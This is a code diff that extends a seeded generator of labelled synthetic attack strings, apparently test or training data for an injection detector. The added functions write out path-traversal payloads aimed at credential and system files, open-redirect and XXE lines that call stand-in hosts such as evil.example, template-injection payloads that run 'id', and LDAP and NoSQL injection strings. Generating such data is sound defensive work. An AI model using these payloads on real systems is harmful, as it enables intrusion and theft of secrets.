@@ -154,15 +154,76 @@ function synthesizeXss(random: Random): string {
   }
 }
 
-/** Attacks built from grammar rather than taken from a list: command, SQL and script injection. */
+const TRAVERSAL_STEPS = ['../', '..\\', '..%2f', '%2e%2e%2f', '%2e%2e/', '..%5c', '%2e%2e%5c', '....//', '..;/', '%252e%252e%252f', '..%c0%af', '..%255c', '.%2e/', '..///', '..\\/'];
+const TRAVERSAL_TARGETS = ['etc/passwd', 'etc/shadow', 'etc/hosts', 'etc/issue', 'proc/self/environ', 'proc/self/cmdline', 'windows/win.ini', 'boot.ini', 'winnt/win.ini', 'windows/system32/drivers/etc/hosts', 'WEB-INF/web.xml', 'var/log/apache2/access.log', '.env', '.git/config', 'root/.ssh/id_rsa', 'usr/local/apache2/conf/httpd.conf', 'inetpub/wwwroot/web.config'];
+
+/** `<steps × depth><sensitive file>[%00.ext]`: path traversal over the encodings of a step. */
+function synthesizeTraversal(random: Random): string {
+  const step = pick(TRAVERSAL_STEPS, random);
+  let target = pick(TRAVERSAL_TARGETS, random);
+  if (step.includes('\\') || step.includes('5c')) target = target.replace(/\//g, pick(['\\', '%5c'], random));
+  const lead = pick(['', '', '/', 'file:///', 'static/', 'images/', 'c:\\', 'php://filter/resource='], random);
+  const tail = pick(['', '', '%00', '%00.png', '\u0000.jpg', '?', '#'], random);
+  return `${lead}${step.repeat(1 + Math.floor(random() * 9))}${target}${tail}`;
+}
+
+/** Open redirect shapes: scheme-relative, backslash, userinfo, encoded slashes, whitespace tricks. */
+function synthesizeOpenRedirect(random: Random): string {
+  const host = pick(['evil.example', 'attacker.example.net', '3627734734', '0x7f.1', 'evil.example%2f%2e%2e', 'evil。example'], random);
+  return pick(
+    [`//${host}/`, `/\\${host}`, `\\/${host}`, `/%09/${host}`, `https:${host}`, `//trusted.example@${host}`, `https://trusted.example.${host}/`, `/%2f%2f${host}`, `///${host}/%2e%2e`, `//${host}%23.trusted.example`, `javascript://%0a${pick(XSS_JS, random)}`],
+    random,
+  );
+}
+
+/** Template expressions across engines: arithmetic probes and object-graph walks to code execution. */
+function synthesizeSsti(random: Random): string {
+  const n = 2 + Math.floor(random() * 97);
+  return pick(
+    [
+      `{{${n}*${n}}}`, `\${${n}*${n}}`, `<%= ${n}*${n} %>`, `#{${n}*${n}}`, `*{${n}*${n}}`, `{{${n}*'${n}'}}`, '{{config.items()}}', '{{self.__dict__}}',
+      "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
+      "\${T(java.lang.Runtime).getRuntime().exec('id')}", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', '{php}echo `id`;{/php}',
+      '{{lipsum.__globals__.os.popen(\'id\').read()}}', '${{<%[%\'"}}%\\.', "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
+    ],
+    random,
+  );
+}
+
+/** LDAP filter, NoSQL operator and XML entity injection. */
+function synthesizeQueryLanguage(random: Random): { text: string; category: string } {
+  switch (Math.floor(random() * 3)) {
+    case 0:
+      return { category: 'ldap', text: pick(['*)(uid=*))(|(uid=*', 'admin*)((|userPassword=*)', '*)(|(objectClass=*)', 'x)(|(cn=*)', '*))%00', '*()|&\'', 'admin)(&)', '*)(mail=*'], random) };
+    case 1:
+      return {
+        category: 'nosqli',
+        text: pick(['{"$gt": ""}', '{"$ne": null}', '[$ne]=1', '[$regex]=.*', "'; return true; var x='", '{"$where": "sleep(1000)"}', "' || '1'=='1", '{"username": {"$in": ["admin"]}}', 'true, $where: \'1 == 1\''], random),
+      };
+    default:
+      return {
+        category: 'xxe',
+        text: pick(
+          ['<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]>', '<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>'],
+          random,
+        ),
+      };
+  }
+}
+
+/** Attacks built from grammar rather than taken from a list: command, SQL, script, path, template, redirect, LDAP/NoSQL/XXE. */
 export function synthesizeAttacks(seed: number, count: number): { text: string; category: string }[] {
   const random = seededRandom(seed ^ 0xa77ac);
   const out: { text: string; category: string }[] = [];
   for (let i = 0; i < count; i++) {
-    const kind = i % 3;
-    if (kind === 0) out.push({ text: synthesizeCommandInjection(random), category: 'cmdexe' });
+    const kind = i % 8;
+    if (kind === 0 || kind === 5) out.push({ text: synthesizeCommandInjection(random), category: 'cmdexe' });
     else if (kind === 1) out.push({ text: synthesizeSqlInjection(random), category: 'sqli' });
-    else out.push({ text: synthesizeXss(random), category: 'xss' });
+    else if (kind === 2) out.push({ text: synthesizeXss(random), category: 'xss' });
+    else if (kind === 3) out.push({ text: synthesizeTraversal(random), category: 'traversal' });
+    else if (kind === 4) out.push({ text: random() < 0.5 ? synthesizeSsti(random) : synthesizeOpenRedirect(random), category: 'ssti-redirect' });
+    else if (kind === 6) out.push(synthesizeQueryLanguage(random));
+    else out.push({ text: synthesizeSqlInjection(random), category: 'sqli' });
   }
   return out;
 }
